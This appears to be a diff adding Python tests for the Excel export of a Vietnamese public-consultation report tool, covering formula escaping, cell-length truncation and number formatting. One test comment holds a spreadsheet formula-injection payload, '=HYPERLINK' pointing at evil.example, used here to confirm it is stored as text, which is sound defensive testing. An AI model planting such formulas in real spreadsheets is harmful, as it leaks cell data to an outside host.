@@ -144,3 +144,58 @@ def test_report_filename_is_ascii_and_dated_in_vietnam(app):
     late_utc = datetime(2024, 5, 1, 18, 30)  # 01:30 on 2 May in Vietnam
     assert synthesis.report_filename(consultation, "docx", late_utc) == "bao-cao-tong-hop-luat-htx-2022-20240502.docx"
     db.session.rollback()
+
+
+def xlsx_rows(consultation) -> list[tuple]:
+    with force_locale("vi"):
+        data = synthesis.to_xlsx(synthesis.build_report(consultation))
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]
+
+
+def test_excel_keeps_opinions_as_text_never_formulas_or_links(app):
+    consultation = make_consultation()
+    formula = comment(consultation, "dieu-3", '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")')
+    link = comment(consultation, "dieu-4", "https://thuvienphapluat.vn/" + "a" * 3000 + " nên tham khảo")
+    decisions.decide([formula], "not_accepted", "Không liên quan.", drafter())
+    db.session.commit()
+    with force_locale("vi"):
+        data = synthesis.to_xlsx(synthesis.build_report(consultation))
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
+    assert cells[formula.body].data_type == "s"  # a string, not "f"ormula
+    assert link.body in cells and cells[link.body].hyperlink is None
+    row_of_link = next(row for row in xlsx_rows(consultation) if link.body in row)
+    with force_locale("vi"):
+        assert row_of_link[-1] == gettext("Not yet decided")  # the answer column is still written
+
+
+def test_a_cell_over_excels_limit_is_cut_with_a_note_and_the_answer_is_kept(app):
+    consultation = make_consultation()
+    many = [comment(consultation, "dieu-3", f"Ý kiến số {i}: " + "đề nghị sửa quy định này. " * 20) for i in range(80)]
+    decisions.decide(many, "explained", "Đã giải trình tại cuộc họp.", drafter())
+    db.session.commit()
+    row = next(row for row in xlsx_rows(consultation) if row[-1] and "Đã giải trình tại cuộc họp." in row[-1])
+    assert len(row[3]) <= synthesis.EXCEL_CELL_LIMIT and row[3].endswith(")")
+    with force_locale("vi"):
+        assert row[3].endswith(gettext("… (cut: the whole text is in the Word file)"))
+
+
+def test_counts_are_written_as_vietnamese_numbers_and_texts_composed(app):
+    import unicodedata
+
+    consultation = make_consultation()
+    consultation.title = unicodedata.normalize("NFD", "Dự thảo Luật Hợp tác xã (sửa đổi)")
+    body = unicodedata.normalize("NFD", "Đề nghị giữ nguyên khoản này.")
+    copies = [comment(consultation, "dieu-3", body) for _ in range(1200)]
+    decisions.decide(copies, "accepted", "", drafter())
+    db.session.commit()
+    with force_locale("vi"):
+        report = synthesis.build_report(consultation)
+        assert report.subtitle == gettext("on the draft %(title)s", title="Luật Hợp tác xã (sửa đổi)")
+        row = report.rows[0]
+        assert "1.200" in row.sources
+        assert row.content == unicodedata.normalize("NFC", body) + " (× 1.200)"
+        line = synthesis.made_on(report)
+        day = synthesis.vn_today(report.made_at)
+        assert line == f"Lập ngày {day.day:02d} tháng {day.month:02d} năm {day.year}"
